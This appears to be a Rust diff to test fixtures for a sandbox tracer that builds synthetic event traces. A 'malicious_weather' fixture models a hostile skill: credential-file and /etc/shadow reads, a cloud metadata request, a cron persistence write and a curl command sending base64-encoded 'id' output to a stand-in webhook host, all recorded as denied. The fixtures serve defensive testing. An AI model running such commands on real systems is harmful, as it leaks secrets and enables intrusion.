@@ -5,18 +5,21 @@
 use std::collections::BTreeMap;
 
 use serde_json::{Value, json};
-use skillsandbox_tracer::{Connection, Event, FileOperation, Header, Line, Process, Trace, Verdict, What};
+use skillsandbox_tracer::{
+    Event, EventKind, EventVerdict, FileOperation, NetConnection, OutputLine, Trace, TraceHeader,
+    TracedProcess,
+};
 
 /// Puts events in their places, and adds up what they came to.
 pub struct Maker {
-    header: Header,
+    header: TraceHeader,
     events: Vec<Event>,
     findings: Vec<Value>,
 }
 
 impl Maker {
     pub fn new(skill: &str) -> Self {
-        let mut header = Header::new(skill, "skillsandbox 0.1.0");
+        let mut header = TraceHeader::new(skill, "skillsandbox 0.1.0");
         header.trace_id = "2f6b1a52-0d0e-4a59-9a10-6a6e65f6c001".parse().unwrap();
         header.skill_version = Some("0.1.0".to_owned());
         header.started = "2026-03-14T23:33:43.120Z".parse().unwrap();
@@ -51,7 +54,7 @@ impl Maker {
         let prevented = evidence.iter().all(|place| {
             self.events
                 .get(usize::try_from(*place).unwrap())
-                .is_none_or(|event| event.verdict == Some(Verdict::Denied))
+                .is_none_or(|event| event.verdict == Some(EventVerdict::Denied))
         });
         let techniques: Vec<Value> =
             techniques.iter().map(|(id, name)| json!({ "id": id, "name": name })).collect();
@@ -63,8 +66,9 @@ impl Maker {
 
     pub fn trace(self) -> Trace {
         let count = |verdict| -> u64 {
-            let judged =
-                |event: &&Event| event.verdict == Some(verdict) && !matches!(event.what, What::Policy { .. });
+            let judged = |event: &&Event| {
+                event.verdict == Some(verdict) && !matches!(event.kind, EventKind::Policy { .. })
+            };
             self.events.iter().filter(judged).map(|event| event.count).sum()
         };
         let order = ["low", "medium", "high", "critical"];
@@ -77,8 +81,8 @@ impl Maker {
         whole.insert("events".to_owned(), serde_json::to_value(&self.events).unwrap());
         whole.insert("policy_violations".to_owned(), json!(violations));
         let mut summary = json!({
-            "events": self.events.len(), "allowed": count(Verdict::Allowed), "denied": count(Verdict::Denied),
-            "failed": count(Verdict::Failed), "complete": true, "lost": 0,
+            "events": self.events.len(), "allowed": count(EventVerdict::Allowed), "denied": count(EventVerdict::Denied),
+            "failed": count(EventVerdict::Failed), "complete": true, "lost": 0,
             "duration_us": self.events.last().map_or(0, |last| last.elapsed_us),
             "all_prevented": self.findings.iter().all(|finding| finding["prevented"] == true),
             "classifications": self.findings,
@@ -91,15 +95,15 @@ impl Maker {
     }
 }
 
-pub fn python() -> Process {
-    let mut process = Process::new(41_872, Some("/usr/bin/python3.12".to_owned()));
+pub fn python() -> TracedProcess {
+    let mut process = TracedProcess::new(41_872, Some("/usr/bin/python3.12".to_owned()));
     process.inner_pid = Some(2);
     process.parent = Some(41_870);
     process
 }
 
-pub fn shell() -> Process {
-    let mut process = Process::new(41_880, Some("/usr/bin/dash".to_owned()));
+pub fn shell() -> TracedProcess {
+    let mut process = TracedProcess::new(41_880, Some("/usr/bin/dash".to_owned()));
     process.inner_pid = Some(5);
     process.parent = Some(41_872);
     process
@@ -107,31 +111,33 @@ pub fn shell() -> Process {
 
 pub fn policy(subject: &str, message: &str, figures: &[(&str, u64)]) -> Event {
     let figures = figures.iter().map(|(name, count)| ((*name).to_owned(), *count)).collect();
-    Event::new(What::Policy { subject: subject.to_owned(), message: message.to_owned(), figures })
+    Event::new(EventKind::Policy { subject: subject.to_owned(), message: message.to_owned(), figures })
 }
 
-pub fn file(operation: FileOperation, path: &str, verdict: Verdict) -> Event {
+pub fn file(operation: FileOperation, path: &str, verdict: EventVerdict) -> Event {
     let rule = match verdict {
-        Verdict::Denied => "not granted",
+        EventVerdict::Denied => "not granted",
         _ => "filesystem.read",
     };
-    Event::new(What::File { operation, path: path.to_owned(), to: None })
-        .judged(verdict, rule.to_owned())
-        .by(python())
+    Event::new(EventKind::File { operation, path: path.to_owned(), to: None })
+        .with_verdict(verdict, rule.to_owned())
+        .with_process(python())
 }
 
-pub fn exec(process: Process, path: &str, argv: &[&str], verdict: Verdict) -> Event {
+pub fn exec(process: TracedProcess, path: &str, argv: &[&str], verdict: EventVerdict) -> Event {
     let argv = argv.iter().map(|argument| (*argument).to_owned()).collect();
-    Event::new(What::Exec { path: path.to_owned(), argv }).judged(verdict, None).by(process)
+    Event::new(EventKind::Exec { path: path.to_owned(), argv })
+        .with_verdict(verdict, None)
+        .with_process(process)
 }
 
-pub fn dns(name: &str, verdict: Verdict) -> Event {
-    let what = What::DnsQuery { name: Some(name.to_owned()), server: Some("10.0.2.3".to_owned()) };
-    Event::new(what).judged(verdict, "network.egress".to_owned()).by(python())
+pub fn dns(name: &str, verdict: EventVerdict) -> Event {
+    let what = EventKind::DnsQuery { name: Some(name.to_owned()), server: Some("10.0.2.3".to_owned()) };
+    Event::new(what).with_verdict(verdict, "network.egress".to_owned()).with_process(python())
 }
 
-pub fn connect(name: &str, port: u16, verdict: Verdict, reason: &str, bytes: (u64, u64)) -> Event {
-    let mut connection = Connection::default();
+pub fn connect(name: &str, port: u16, verdict: EventVerdict, reason: &str, bytes: (u64, u64)) -> Event {
+    let mut connection = NetConnection::default();
     connection.name = Some(name.to_owned());
     connection.address = Some("198.18.0.7".to_owned());
     connection.port = port;
@@ -139,19 +145,26 @@ pub fn connect(name: &str, port: u16, verdict: Verdict, reason: &str, bytes: (u6
     connection.reason = Some(reason.to_owned());
     (connection.sent, connection.received) = bytes;
     connection.duration_us = 84_213;
-    Event::new(What::NetConnect(connection)).judged(verdict, "network.egress".to_owned()).by(python())
+    Event::new(EventKind::NetConnect(connection))
+        .with_verdict(verdict, "network.egress".to_owned())
+        .with_process(python())
 }
 
 pub fn out(text: &str) -> Event {
-    Event::new(What::Stdout(Line::new(text))).by(python())
+    Event::new(EventKind::Stdout(OutputLine::new(text))).with_process(python())
 }
 
 pub fn err(text: &str) -> Event {
-    Event::new(What::Stderr(Line::new(text))).by(python())
+    Event::new(EventKind::Stderr(OutputLine::new(text))).with_process(python())
 }
 
 pub fn ended(code: i32) -> Event {
-    Event::new(What::RunEnded { exit_code: Some(code), signal: None, end: "itself".to_owned(), error: None })
+    Event::new(EventKind::RunEnded {
+        exit_code: Some(code),
+        signal: None,
+        end: "itself".to_owned(),
+        error: None,
+    })
 }
 
 fn beginning(maker: &mut Maker, city: &str) {
@@ -170,19 +183,22 @@ fn beginning(maker: &mut Maker, city: &str) {
     );
     maker.after(8, policy("seccomp", "profile default", &[("calls", 312)]));
     let command = ["python3", "main.py", city].map(str::to_owned).to_vec();
-    maker.after(30_211, Event::new(What::RunStarted { command }).by(python()));
-    maker.after(900, exec(python(), "/usr/bin/python3.12", &["python3", "main.py", city], Verdict::Allowed));
-    let mut libraries = file(FileOperation::Read, "/usr/lib/python3.12", Verdict::Allowed);
+    maker.after(30_211, Event::new(EventKind::RunStarted { command }).with_process(python()));
+    maker.after(
+        900,
+        exec(python(), "/usr/bin/python3.12", &["python3", "main.py", city], EventVerdict::Allowed),
+    );
+    let mut libraries = file(FileOperation::Read, "/usr/lib/python3.12", EventVerdict::Allowed);
     libraries.count = 214;
     libraries.last_elapsed_us = Some(88_000);
     maker.after(1_200, libraries);
-    maker.after(52_000, file(FileOperation::Read, "/tmp/weather-cache/oslo.json", Verdict::Failed));
+    maker.after(52_000, file(FileOperation::Read, "/tmp/weather-cache/oslo.json", EventVerdict::Failed));
 }
 
 fn lookup(maker: &mut Maker) {
-    maker.after(700, dns("api.weather.test", Verdict::Allowed));
-    maker.after(84_500, connect("api.weather.test", 443, Verdict::Allowed, "closed", (742, 5_120)));
-    maker.after(300, file(FileOperation::Write, "/tmp/weather-cache/oslo.json", Verdict::Allowed));
+    maker.after(700, dns("api.weather.test", EventVerdict::Allowed));
+    maker.after(84_500, connect("api.weather.test", 443, EventVerdict::Allowed, "closed", (742, 5_120)));
+    maker.after(300, file(FileOperation::Write, "/tmp/weather-cache/oslo.json", EventVerdict::Allowed));
     maker.after(150, out(r#"{"city": "Oslo", "temperature_c": 4, "conditions": "light rain"}"#));
 }
 
@@ -208,41 +224,50 @@ pub fn malicious_weather() -> Trace {
         "/root/.config/gh/hosts.yml",
         "/root/.netrc",
     ] {
-        keys.push(maker.after(420, file(Read, path, Verdict::Denied)));
+        keys.push(maker.after(420, file(Read, path, EventVerdict::Denied)));
     }
-    let shadow = maker.after(300, file(Read, "/etc/shadow", Verdict::Denied));
-    let what = What::SyscallRefused {
+    let shadow = maker.after(300, file(Read, "/etc/shadow", EventVerdict::Denied));
+    let what = EventKind::SyscallRefused {
         name: "ptrace".into(),
         reason: "reads and writes other processes".into(),
         errno: Some(1),
     };
-    let ptrace =
-        maker.after(800, Event::new(what).judged(Verdict::Denied, "profile default".to_owned()).by(python()));
+    let ptrace = maker.after(
+        800,
+        Event::new(what)
+            .with_verdict(EventVerdict::Denied, "profile default".to_owned())
+            .with_process(python()),
+    );
     maker.after(
         350,
         exec(
             shell(),
             "/bin/sh",
             &["sh", "-c", "curl -s https://webhook.test/$(id|base64)"],
-            Verdict::Allowed,
+            EventVerdict::Allowed,
         ),
     );
     maker.after(
         90,
-        exec(shell(), "/usr/bin/curl", &["curl", "-s", "https://webhook.test/dWlkPTA="], Verdict::Denied),
+        exec(
+            shell(),
+            "/usr/bin/curl",
+            &["curl", "-s", "https://webhook.test/dWlkPTA="],
+            EventVerdict::Denied,
+        ),
     );
-    let name = maker.after(600, dns("webhook.test", Verdict::Denied));
-    let mut hook = connect("webhook.test", 443, Verdict::Denied, "not_granted", (0, 0));
+    let name = maker.after(600, dns("webhook.test", EventVerdict::Denied));
+    let mut hook = connect("webhook.test", 443, EventVerdict::Denied, "not_granted", (0, 0));
     hook.count = 3;
     hook.last_elapsed_us = Some(190_000);
     let hook = maker.after(250, hook);
-    let mut metadata = connect("", 80, Verdict::Denied, "special_address", (0, 0));
-    if let What::NetConnect(connection) = &mut metadata.what {
+    let mut metadata = connect("", 80, EventVerdict::Denied, "special_address", (0, 0));
+    if let EventKind::NetConnect(connection) = &mut metadata.kind {
         connection.name = None;
         connection.address = Some("169.254.169.254".to_owned());
     }
     let metadata = maker.after(500, metadata);
-    let cron = maker.after(200, file(Write, "/etc/cron.d/updater", Verdict::Denied));
+    let cron = maker.after(200, file(Write, "/etc/cron.d/updater", EventVerdict::Denied));
     lookup(&mut maker);
     maker.after(10, err("warning: cache is cold"));
     maker.after(2_000, ended(0));
@@ -345,36 +370,43 @@ pub fn hostile() -> Trace {
         process.pid = 50_000 + u32::try_from(number).unwrap();
         process.binary = Some(format!("/tmp/{text}"));
         let by = || Some(process.clone());
-        let denied = |what| Event::new(what).judged(Verdict::Denied, text.clone()).by(by());
-        let mut connection = Connection::default();
+        let denied =
+            |what| Event::new(what).with_verdict(EventVerdict::Denied, text.clone()).with_process(by());
+        let mut connection = NetConnection::default();
         connection.name = Some(text.clone());
         connection.server_name = Some(format!("{text}!"));
         connection.transport.clone_from(&text);
         connection.reason = Some(text.clone());
-        maker.after(10, Event::new(What::RunStarted { command: vec![text.clone()] }).by(by()));
+        maker.after(10, Event::new(EventKind::RunStarted { command: vec![text.clone()] }).with_process(by()));
         maker.after(10, policy(&text, &text, &[(&text, 7)]));
         maker.after(
             10,
-            denied(What::File {
+            denied(EventKind::File {
                 operation: FileOperation::Rename,
                 path: text.clone(),
                 to: Some(text.clone()),
             }),
         );
-        maker.after(10, denied(What::Exec { path: text.clone(), argv: vec![text.clone(), text.clone()] }));
-        maker.after(10, denied(What::DnsQuery { name: Some(text.clone()), server: Some(text.clone()) }));
-        maker.after(10, denied(What::NetConnect(connection)));
         maker.after(
             10,
-            denied(What::SyscallRefused { name: text.clone(), reason: text.clone(), errno: None }),
+            denied(EventKind::Exec { path: text.clone(), argv: vec![text.clone(), text.clone()] }),
+        );
+        maker.after(10, denied(EventKind::DnsQuery { name: Some(text.clone()), server: Some(text.clone()) }));
+        maker.after(10, denied(EventKind::NetConnect(connection)));
+        maker.after(
+            10,
+            denied(EventKind::SyscallRefused { name: text.clone(), reason: text.clone(), errno: None }),
         );
         maker.after(10, out(&text));
         maker.after(10, err(&text));
-        maker.after(10, Event::new(What::ResourceLimitHit { limit: text.clone(), mechanism: text.clone() }));
-        maker.after(10, Event::new(What::Lost { at: text.clone() }));
         maker.after(
             10,
-            Event::new(What::RunEnded {
+            Event::new(EventKind::ResourceLimitHit { limit: text.clone(), mechanism: text.clone() }),
+        );
+        maker.after(10, Event::new(EventKind::Lost { at: text.clone() }));
+        maker.after(
+            10,
+            Event::new(EventKind::RunEnded {
                 exit_code: None,
                 signal: Some(9),
                 end: text.clone(),
@@ -399,16 +431,20 @@ pub fn many(count: u64) -> Trace {
     let mut maker = Maker::new("busy");
     for number in 0..count {
         let event = match number % 10 {
-            0 => {
-                connect(&format!("host{}.test", number % 50), 443, Verdict::Allowed, "closed", (900, 12_000))
-            }
-            1 => file(FileOperation::Write, &format!("/tmp/work/out-{number}.txt"), Verdict::Allowed),
-            2 if number % 1_000 == 2 => file(FileOperation::Read, "/root/.ssh/id_rsa", Verdict::Denied),
+            0 => connect(
+                &format!("host{}.test", number % 50),
+                443,
+                EventVerdict::Allowed,
+                "closed",
+                (900, 12_000),
+            ),
+            1 => file(FileOperation::Write, &format!("/tmp/work/out-{number}.txt"), EventVerdict::Allowed),
+            2 if number % 1_000 == 2 => file(FileOperation::Read, "/root/.ssh/id_rsa", EventVerdict::Denied),
             3..=6 => out(&format!("line {number}: {}", "lorem ipsum dolor sit amet ".repeat(3))),
             _ => file(
                 FileOperation::Read,
                 &format!("/usr/share/data/{}/{number}.bin", number % 300),
-                Verdict::Allowed,
+                EventVerdict::Allowed,
             ),
         };
         maker.after(37, event);
